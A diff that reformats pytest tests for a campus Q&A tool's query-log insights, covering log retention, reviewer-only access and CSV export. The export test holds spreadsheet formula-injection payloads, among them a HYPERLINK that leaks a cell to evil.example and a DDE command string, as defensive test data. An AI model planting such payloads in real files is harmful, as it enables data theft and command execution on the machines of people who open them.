@@ -15,15 +15,29 @@ from governance.tickets import TicketStore
 
 REVIEWER = Identity("local:rev", "rev", "reviewer")
 STUDENT = Identity("local:stu", "stu", "user")
-HOSTEL = ["What time does the hostel gate close at night?", "When is the hostel curfew?",
-          "Can hostel residents come back after the night curfew?"]
+HOSTEL = [
+    "What time does the hostel gate close at night?",
+    "When is the hostel curfew?",
+    "Can hostel residents come back after the night curfew?",
+]
 PARKING = ["Where can students park their cars on campus?", "Is there a parking permit for student cars?"]
 
 
 def _line(query: str, decision: str, sigma: float, days_ago: float = 0, sources=()) -> str:
     ts = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() - days_ago * 86400))
-    return json.dumps({"ts": ts, "actor": "user-hash-123", "session": "s", "query": query, "decision": decision,
-                       "sigma": sigma, "tau": 0.42, "sources": list(sources), "timings_ms": {"total": 20.0}})
+    return json.dumps(
+        {
+            "ts": ts,
+            "actor": "user-hash-123",
+            "session": "s",
+            "query": query,
+            "decision": decision,
+            "sigma": sigma,
+            "tau": 0.42,
+            "sources": list(sources),
+            "timings_ms": {"total": 20.0},
+        }
+    )
 
 
 @pytest.fixture()
@@ -31,9 +45,11 @@ def log(tiny_engine):
     path = tiny_engine.config.query_log_path
     fee_chunk = tiny_engine.index.get_nodes(where={"doc_id": "fees"})[0].node_id
     lines = [_line(q, "abstain", 0.2) for q in HOSTEL + PARKING]
-    lines += [_line("What is the revaluation fee?", "answer", 0.8, sources=[fee_chunk]),
-              _line("An old hostel question asked long ago", "abstain", 0.1, days_ago=400),
-              _line("", "abstain", 0.1)]  # a forgotten user's line
+    lines += [
+        _line("What is the revaluation fee?", "answer", 0.8, sources=[fee_chunk]),
+        _line("An old hostel question asked long ago", "abstain", 0.1, days_ago=400),
+        _line("", "abstain", 0.1),
+    ]  # a forgotten user's line
     path.write_text("\n".join(lines) + "\nnot json\n", encoding="utf-8")
     return path
 
@@ -66,8 +82,9 @@ def test_overview_counts_decisions_sigma_latency_and_citations(log):
 
 
 def test_retention_prunes_old_lines_and_only_reviewers_see_insights(tiny_engine, log):
-    insights = Insights(tiny_engine.index, TicketStore(tiny_engine.config.home / "tickets.json"), log,
-                        retention_days=30)
+    insights = Insights(
+        tiny_engine.index, TicketStore(tiny_engine.config.home / "tickets.json"), log, retention_days=30
+    )
     assert "long ago" not in log.read_text(encoding="utf-8")
     assert insights.overview(REVIEWER)["turns"] == 7
     with pytest.raises(PermissionDenied):
@@ -105,8 +122,14 @@ def test_the_csv_export_neutralises_formulas(tmp_path):
     """Finding 7: a question that starts like a formula opens as text in a spreadsheet."""
     from governance.insights import GapGroup, GapQuestion
 
-    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"fee")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-               "  =1+1", "\t=1+1"]
+    hostile = [
+        '=HYPERLINK("https://evil.example/?"&A1,"fee")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "  =1+1",
+        "\t=1+1",
+    ]
     groups = [GapGroup(1, [GapQuestion(q, 0.2, "2026-01-01T00:00:00Z", "fees §2") for q in hostile])]
     out = tmp_path / "gaps.csv"
     write_gaps_csv(groups, out)
